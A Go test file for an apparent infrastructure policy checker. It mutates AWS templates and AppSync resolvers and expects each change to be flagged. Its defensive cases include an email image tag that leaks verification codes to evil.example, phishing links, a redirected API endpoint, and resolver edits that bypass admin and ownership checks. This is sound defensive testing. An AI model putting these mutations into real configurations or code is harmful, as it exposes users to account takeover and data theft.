package proof

import (
	"slices"
	"strings"
	"testing"

	"lightbox.example/lightbox/internal/access"
	"lightbox.example/lightbox/internal/proof/prooftest"
)

// set is prod with one property that is not as it ships.
func set(stack, path, property string, value any) func(testing.TB) string {
	return func(t testing.TB) string {
		return prooftest.Edited(t, stack, path, func(properties map[string]any) { prooftest.Set(properties, property, value) })
	}
}

// trusting is prod with one more statement in the trust policy of admins.
func trusting(statement map[string]any) func(testing.TB) string {
	return func(t testing.TB) string {
		return prooftest.Edited(t, "Identity", "Identity/AdminRole/Resource", func(properties map[string]any) {
			document := properties["AssumeRolePolicyDocument"].(map[string]any)
			document["Statement"] = append(document["Statement"].([]any), statement)
		})
	}
}

// under is a statement with a condition.
func under(statement map[string]any, operator, key string, value any) map[string]any {
	statement["Condition"] = map[string]any{operator: map[string]any{key: value}}
	return statement
}

// by is a statement of a bucket's policy for a service.
func by(service string, statement map[string]any) map[string]any {
	statement["Principal"] = map[string]any{"Service": service}
	return statement
}

// of is a statement of a bucket's policy for somebody's files, of that kind of principal.
func of(kind, name string) map[string]any {
	statement := prooftest.Allow("s3:GetObject", "public/*")
	statement["Principal"] = map[string]any{kind: name}
	return statement
}

// attribute is prod with an attribute of a resource that is not as it ships.
func attribute(stack, path, name string, value any) func(testing.TB) string {
	return func(t testing.TB) string {
		return prooftest.Altered(t, stack, prooftest.Resource(path, func(resource map[string]any) { resource[name] = value }))
	}
}

// output is prod with another value of an output, nil for none.
func output(stack, key string, value any) func(testing.TB) string {
	return func(t testing.TB) string {
		return prooftest.Altered(t, stack, func(template map[string]any) {
			outputs := template["Outputs"].(map[string]any)
			if outputs[key] = map[string]any{"Value": value}; value == nil {
				delete(outputs, key)
			}
		})
	}
}

// firstStepOff is prod with a pipeline that writes without the read before.
func firstStepOff(t testing.TB) string {
	return prooftest.Edited(t, "API", "API/Mutation.deleteComment/Resource", func(properties map[string]any) {
		pipeline := properties["PipelineConfig"].(map[string]any)
		pipeline["Functions"] = pipeline["Functions"].([]any)[1:]
	})
}

const (
	guests   = "FileStorage/GuestAccess/Resource"
	users    = "FileStorage/UserAccess/Resource"
	files    = "FileStorage/Files/Resource"
	policyOf = "FileStorage/Files/Policy/Resource"
	cdnPath  = "CDN/Distribution/Resource"
	products = "API/Products/Resource"
	client   = "Auth/WebClient/Resource"
	identity = "Identity/IdentityPool/Resource"
	unread   = "nobody has looked at what that property opens"
)

// expect fails the test unless a sentence of the violations has a text; the empty text is for none of
// them.
func expect(t *testing.T, violations []Violation, want string) {
	t.Helper()
	if want == "" && len(violations) > 0 {
		t.Errorf("got %v, want nothing", violations)
	}
	if want != "" && !slices.ContainsFunc(violations, func(v Violation) bool { return strings.Contains(v.Text, want) }) {
		t.Errorf("got %v, want %q among it", violations, want)
	}
}

// What was on no list passed once: conditions, principals, properties, tokens and references. None of
// it does.
func TestProve_isClosed(t *testing.T) {
	sub := "cognito-identity.amazonaws.com:sub"
	for name, test := range map[string]struct {
		dir  func(testing.TB) string
		want string // in a sentence of the proof; empty is that it passes
	}{
		"control: as it ships":   {func(t testing.TB) string { return prooftest.Assembly(t, "prod") }, ""},
		"control: another name":  {set("CDN", cdnPath, "DistributionConfig.Comment", "pictures"), ""},
		"control: TLS for speed": {set("CDN", cdnPath, "DistributionConfig.HttpVersion", "http3"), ""},

		"a condition on TLS 1.3":            {prooftest.Granting(guests, under(prooftest.Allow("s3:GetObject", "drafts/*"), "NumericEquals", "s3:TlsVersion", 1.3)), "got the condition NumericEquals on s3:TlsVersion"},
		"one identity by name":              {prooftest.Granting(users, under(prooftest.Allow("s3:PutObject", "private/*"), "StringEquals", sub, "us-east-1:x")), "got the condition StringEquals on " + sub},
		"all identities but one":            {prooftest.Granting(users, under(prooftest.Allow("s3:PutObject", "private/*"), "StringNotEquals", sub, "us-east-1:x")), "got the condition StringNotEquals on " + sub},
		"a deny for one identity":           {prooftest.Granting(users, under(map[string]any{"Effect": "Deny", "Action": "s3:GetObject", "Resource": "*"}, "StringEquals", sub, "x")), "got a Deny"},
		"a distribution of others":          {prooftest.Granting(policyOf, under(by("cloudfront.amazonaws.com", prooftest.Allow("s3:GetObject", "private/*")), "StringEquals", "aws:SourceArn", "arn:aws:cloudfront::999999999999:distribution/E1")), "a condition that no statement of such a bucket has"},
		"another service":                   {prooftest.Granting(policyOf, by("config.amazonaws.com", prooftest.Allow("s3:GetObject", "*"))), "got a principal"},
		"an origin access identity":         {prooftest.Granting(policyOf, of("CanonicalUser", strings.Repeat("a1", 48))), "names the canonical user a1a1"},
		"an origin access identity's ARN":   {prooftest.Granting(policyOf, of("AWS", "arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E3ABC")), "which is no role of the system"},
		"trust in a service":                {trusting(map[string]any{"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": map[string]any{"Service": "states.amazonaws.com"}}), "got another trust policy than the role's"},
		"trust in a SAML provider":          {trusting(map[string]any{"Effect": "Allow", "Action": "sts:AssumeRoleWithSAML", "Principal": map[string]any{"Federated": "arn:aws:iam::000000000000:saml-provider/x"}}), "got another trust policy than the role's"},
		"a permissions boundary":            {set("Identity", "Identity/AdminRole/Resource", "PermissionsBoundary", "arn:aws:iam::aws:policy/X"), unread},
		"control: a path as of the library": {attribute("API", "API/LogRole/Resource", "Metadata", map[string]any{"aws:cdk:path": "API/CustomResourceProvider/Role"}), ""},
		"replication":                       {set("FileStorage", files, "ReplicationConfiguration", map[string]any{"Role": "arn:aws:iam::1:role/x"}), unread},
		"inventory":                         {set("FileStorage", files, "InventoryConfigurations", []any{map[string]any{"Id": "x"}}), unread},
		"a replica for others":              {set("API", products, "Replicas.0.ResourcePolicy", map[string]any{"PolicyDocument": map[string]any{}}), unread},
		"a log for others":                  {set("API", "API/Log/Resource", "ResourcePolicyDocument", map[string]any{}), unread},
		"code at the edge":                  {set("CDN", cdnPath, "DistributionConfig.DefaultCacheBehavior.FunctionAssociations", []any{map[string]any{"FunctionARN": "x"}}), unread},
		"headers that are removed":          {set("CDN", "CDN/ResponseHeaders/Resource", "ResponseHeadersPolicyConfig.RemoveHeadersConfig", map[string]any{"Items": []any{map[string]any{"Header": "x"}}}), unread},
		"a log of what callers sent":        {set("API", "API/GraphQL/Resource", "LogConfig.ExcludeVerboseContent", false), "LogConfig.ExcludeVerboseContent: got false, want true"},
		"a secret for resolvers":            {set("API", "API/GraphQL/Resource", "EnvironmentVariables.SECRET", "x"), "EnvironmentVariables.SECRET: got x, and " + unread},
		"old TLS at the CDN":                {set("CDN", cdnPath, "DistributionConfig.ViewerCertificate", map[string]any{"MinimumProtocolVersion": "SSLv3"}), "TLSv1.2_2021"},

		"a second factor by SMS": {func(t testing.TB) string {
			return prooftest.Edited(t, "Auth", "Auth/UserPool/Resource", func(properties map[string]any) {
				properties["MfaConfiguration"], properties["EnabledMfas"] = "OFF", []any{"SMS_MFA"}
			})
		}, "EnabledMfas: got [SMS_MFA], want nothing"},
		"mail by what is no sender": {set("Auth", "Auth/UserPool/Resource", "EmailConfiguration", map[string]any{"SourceArn": "arn:aws:lambda:us-east-1:1:function:x"}), "want an identity of SES"},
		"control: mail by SES":      {set("Auth", "Auth/UserPool/Resource", "EmailConfiguration", map[string]any{"SourceArn": "arn:aws:ses:us-east-1:1:identity/x"}), ""},

		"id tokens of a day":            {set("Auth", client, "IdTokenValidity", 1440), "IdTokenValidity: got 1 day"},
		"id tokens by their unit":       {set("Auth", client, "TokenValidityUnits.IdToken", "days"), "IdTokenValidity: got 60 days"},
		"refresh tokens of ten years":   {set("Auth", client, "RefreshTokenValidity", 5256000), "RefreshTokenValidity: got 3650 days"},
		"refresh tokens for all times":  {set("Auth", client, "RefreshTokenRotation", nil), "RefreshTokenRotation.Feature: got nothing"},
		"pictures asked for unsigned":   {set("CDN", "CDN/OriginAccess/Resource", "OriginAccessControlConfig.SigningBehavior", "never"), "got never, want always"},
		"pictures asked for as anybody": {set("CDN", cdnPath, "DistributionConfig.Origins.0.OriginAccessControlId", nil), "OriginAccessControlId: got nothing"},
		"a CDN that is off":             {set("CDN", cdnPath, "DistributionConfig.Enabled", false), "DistributionConfig.Enabled: got false, want true"},
		"no guests":                     {set("Identity", identity, "AllowUnauthenticatedIdentities", false), "AllowUnauthenticatedIdentities: got false, want true"},
		"another group":                 {set("Identity", "Identity/Admins/Resource", "GroupName", "admins"), "GroupName: got admins, want Admins"},
		"roles of another pool":         {set("Identity", "Identity/IdentityPool/DefaultRoleAttachment/Resource", "IdentityPoolId", "us-east-1:x"), "IdentityPoolId: got us-east-1:x"},
		"users of another pool":         {set("API", "API/GraphQL/Resource", "UserPoolConfig.UserPoolId", "us-east-1_other"), "UserPoolConfig.UserPoolId: got us-east-1_other"},

		"a pipeline that is no pipeline": {set("API", "API/Mutation.addComment/Resource", "Kind", "UNIT"), "got UNIT with 2 functions"},
		"a pipeline without its check":   {firstStepOff, "asks the data sources Photos, want Photos, Photos"},

		"rows that end":                     {set("API", products, "TimeToLiveSpecification", map[string]any{"AttributeName": "x", "Enabled": true}), unread},
		"rows that cannot come back":        {set("API", products, "Replicas.0.PointInTimeRecoverySpecification.PointInTimeRecoveryEnabled", false), "PointInTimeRecoverySpecification: got"},
		"tables that go":                    {attribute("API", products, "DeletionPolicy", "Delete"), "DeletionPolicy and UpdateReplacePolicy: got Delete"},
		"a pool that goes when changed":     {attribute("Auth", "Auth/UserPool/Resource", "UpdateReplacePolicy", "Delete"), "got Retain and Delete"},
		"files that end":                    {set("FileStorage", files, "LifecycleConfiguration.Rules", []any{map[string]any{"Status": "Enabled", "ExpirationInDays": 1}}), "people's files stay until somebody removes them"},
		"files that something empties":      {set("FileStorage", files, "Tags", []any{map[string]any{"Key": "aws-cdk:auto-delete-objects", "Value": "true"}}), "want nothing that empties buckets"},
		"control: a tag":                    {set("FileStorage", files, "Tags", []any{map[string]any{"Key": "team", "Value": "true"}}), ""},
		"a picture in the mail with a code": {set("Auth", "Auth/UserPool/Resource", "VerificationMessageTemplate.EmailMessage", `<img src="https://evil.example/{####}">`), "want plain text with {####} in it once"},
		"a code in an address":              {set("Auth", "Auth/UserPool/Resource", "EmailVerificationMessage", "Go to www.evil.example/{####} now."), "want plain text with {####} in it once"},
		"a code that is there twice":        {set("Auth", "Auth/UserPool/Resource", "SmsVerificationMessage", "{####} or {####}"), "want plain text with {####} in it once"},
		"a mail without its code":           {set("Auth", "Auth/UserPool/Resource", "EmailVerificationMessage", "Hello."), "want plain text with {####} in it once"},
		"a mail that is filled in":          {set("Auth", "Auth/UserPool/Resource", "EmailVerificationMessage", "{{resolve:ssm:/mail}} {####}"), "which a deployment fills in"},
		"a sender without its identity":     {set("Auth", "Auth/UserPool/Resource", "EmailConfiguration", map[string]any{"From": "x@evil.example"}), "none without an identity of SES"},
		"a folder by a role's tag":          {set("Identity", "Identity/AdminRole/Resource", "Tags", []any{map[string]any{"Key": "user", "Value": "victim"}}), "no tag user"},
		"control: another tag of a role":    {set("Identity", "Identity/AdminRole/Resource", "Tags", []any{map[string]any{"Key": "team", "Value": "x"}}), ""},
		"a CDN without IPv6":                {set("CDN", cdnPath, "DistributionConfig.IPV6Enabled", false), "IPV6Enabled: got false"},
		"an origin that is filled in":       {set("FileStorage", files, "CorsConfiguration.CorsRules.0.AllowedOrigins", []any{"https://{{resolve:ssm:/x}}"}), "which a deployment fills in"},
		"a policy that nobody has":          {set("FileStorage", "FileStorage/GuestAccess/Resource", "Roles", nil), "Roles: got nothing, want it"},
		"clients are sent elsewhere":        {output("API", "GraphQLAPIURL", "https://evil.example/graphql"), "Outputs.GraphQLAPIURL: got https://evil.example"},
		"clients sign in elsewhere":         {output("Auth", "UserPoolId", "us-east-1_other"), "Outputs.UserPoolId: got us-east-1_other"},
		"clients are told nothing":          {output("Auth", "UserPoolId", nil), "Outputs.UserPoolId: got nothing"},
		"clients are not told the API's id": {output("API", "GraphQLAPIID", nil), "Outputs.GraphQLAPIID: got nothing"},
		"an output that is filled in":       {output("Auth", "Leak", "{{resolve:ssm:/secret}}"), "nobody has looked at what reads it"},
		"a limit that nobody says":          {prooftest.SchemaWith("getProduct(id: ID!): Product", `getProduct(id: ID! = "x"): Product`), "has a value for id of its own"},
		"files that nobody logs":            {set("FileStorage", files, "LoggingConfiguration", nil), "LoggingConfiguration.DestinationBucketName: got nothing"},
	} {
		t.Run(name, func(t *testing.T) {
			violations, err := checkTemplates(prooftest.Read(t, test.dir(t)), access.Rules(), &Count{})
			if err != nil {
				t.Fatal(err)
			}
			expect(t, violations, test.want)
		})
	}
}

// A resolver that lets somebody more in, or that decides by what must not matter, is noticed by the
// trials of its field; so is one that asks for less than it needs.
func TestTrials_noticeWhoeverIsLetIn(t *testing.T) {
	const admins = `ctx.identity.groups.includes(group)`
	for name, test := range map[string]struct{ path, from, to, want string }{
		"control: as it ships":     {"API/Query.getProduct/Resource", "", "", ""},
		"any group is Admins":      {"API/checkNewProduct/Resource", admins, "ctx.identity.groups.length > 0", "got map["},
		"Admins by a claim":        {"API/checkNewProduct/Resource", admins, admins + ` || !!ctx.identity.claims && ctx.identity.claims["custom:role"] === "Admins"`, "looks at ctx.identity.claims of its caller"},
		"a draft for a header":     {"API/Query.getProduct/Resource", `row.state !== "LIVE"`, `row.state !== "LIVE" && !ctx.request.headers["x-preview"]`, "looks at ctx.request.headers of its caller"},
		"a draft for some ids":     {"API/Query.getProduct/Resource", `row.state !== "LIVE"`, `row.state !== "LIVE" && !(ctx.identity?.sub ?? "").startsWith("f")`, "got it, want that it is not there"},
		"who calls, in the log":    {"API/Query.getProduct/Resource", "const row = ctx.result;", `const row = ctx.result; console.log("asked");`, "to its log"},
		"somebody else's photo":    {"API/Mutation.updatePhoto/Resource", "#photoOwner = :me AND ", "(#photoOwner = :me OR #photoOwner <> :me) AND ", "changed, want nothing"},
		"an owner who is kept out": {"API/Mutation.updatePhoto/Resource", "#photoOwner = :me AND ", "#photoOwner <> :me AND ", "want it done"},
		"a photo that is given away": {
			"API/Mutation.updatePhoto/Resource", "SET #updatedAt = :now, #caption = :caption ADD", "SET #updatedAt = :now, #caption = :caption, photoOwner = :caption ADD", "gives a photo to",
		},
		"a list with drafts in it": {"API/Query.listProducts/Resource", `queryProducts(ctx, "LIVE")`, `{ ...queryProducts(ctx, "DRAFT"), filter: { expression: "attribute_exists(folder)" } }`, "got it, want that it is not there"},
		"a like of another photo":  {"API/likePhoto/Resource", "key: likeKey(id, sub)", `key: likeKey("x.y", sub)`, "changes a like with another photoId"},
		"a list with more in it": {
			"API/Query.listProducts/Resource", "items: pageRows(ctx).map((row) => toLive(ctx, row))", `items: [...pageRows(ctx).map((row) => toLive(ctx, row)), { id: "x" }]`,
			"got a row that nobody made too, which is not for them",
		},
		"a like that writes a comment": {
			"API/likePhoto/Resource", "key: profileKey(owner)", `key: { photoId: util.dynamodb.toDynamoDB(id), row: util.dynamodb.toDynamoDB("COMMENT#x") }`,
			"changes a comment, want only [like photo profile]",
		},
		"another answer for a name": {
			"API/publishPictures/Resource", `if (from === to) {`, `if (from === to) { if (ctx.identity.username === "nobody") { util.error("no", "Unauthorized"); }`,
			"for callers who differ in names",
		},
		"withdrawals of drafts": {"API/Subscription.onProductWithdrawn/Resource", "eq: true", "in: [true, false]", "hears of a draft by deleteProduct"},
	} {
		t.Run(name, func(t *testing.T) {
			expect(t, triedWith(t, test.path, test.from, test.to, test.want), test.want)
		})
	}
}

// triedWith is what the trials say of prod with another text in the code of a step: of one after the other of the fields that it answers,
// until one shows what is wanted, and then of all.
func triedWith(t *testing.T, path, from, to, want string) (all []Violation) {
	t.Helper()
	api := prooftest.Read(t, prooftest.Altered(t, "API", prooftest.Code(path, from, to))).API
	var tries [][]access.Field
	step := strings.Split(path, "/")[1]
	for _, f := range access.Fields() {
		if want != "" && (f.Type+"."+f.Name == step || slices.Contains(f.Steps, step)) {
			tries = append(tries, []access.Field{f})
		}
	}
	for _, fields := range append(tries, access.Fields()) {
		violations, _, err := runTrials(api, fields, known)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, violations...)
		if want != "" && slices.ContainsFunc(all, func(v Violation) bool { return strings.Contains(v.Text, want) }) {
			break
		}
	}
	return all
}

// A field belongs into schema and table, and what answers it into both.
func TestFields_areThoseOfTheTable(t *testing.T) {
	system := prooftest.Shipped(t, "prod")
	without := slices.DeleteFunc(access.Fields(), func(f access.Field) bool { return f.Name == "likePhoto" })
	if got := checkSteps(system.API, without); len(got) != 1 || !strings.Contains(got[0].Text, "Mutation.likePhoto has a resolver, and none in the API's table") {
		t.Errorf("a resolver that is in no table: got %v, want one violation with its name", got)
	}
	more := append(access.Fields(), access.Field{Type: "Query", Name: "peek", Steps: []string{"getPhoto"}})
	if got := checkSteps(system.API, more); len(got) != 1 || !strings.Contains(got[0].Text, "Query.peek has no resolver") {
		t.Errorf("a field that nothing answers: got %v, want one violation with its name", got)
	}
	if got := checkSteps(system.API, access.Fields()); len(got) > 0 {
		t.Errorf("control: got %v, want nothing", got)
	}
}

// A schema may lack what the table has: the trials leave that to the rule of the schema.
func TestTrials_takeASchemaWithoutMutations(t *testing.T) {
	api := prooftest.Shipped(t, "prod").API
	api.Schema = "type Query { a: Int }"
	violations, _, err := runTrials(api, access.Fields(), known)
	if err != nil || len(violations) > 0 {
		t.Errorf("got %v and error %v, want nothing", violations, err)
	}
}

// Stacks go together, and templates have what is looked at.
func TestLife_isOneForAllStacks(t *testing.T) {
	for want, change := range map[string]func(template map[string]any){
		"": func(map[string]any) {},
		"the stack is protected from deletion: got false, want true as of the other stacks": func(template map[string]any) {
			template["Stack"].(map[string]any)["TerminationProtection"] = false
		},
		"Transform: got a section that nobody has looked at":               func(template map[string]any) { template["Transform"] = "x" },
		"Parameters.Origin: got what a deployment may fill in":             func(template map[string]any) { template["Parameters"] = map[string]any{"Origin": map[string]any{}} },
		"Rules.Never: got what a deployment may fill in, want the bootstr": func(template map[string]any) { template["Rules"] = map[string]any{"Never": map[string]any{}} },
	} {
		s := prooftest.Shipped(t, "prod")
		change(s.Templates["CDN"])
		expect(t, checkLife(s, access.Rules()), want)
	}
}
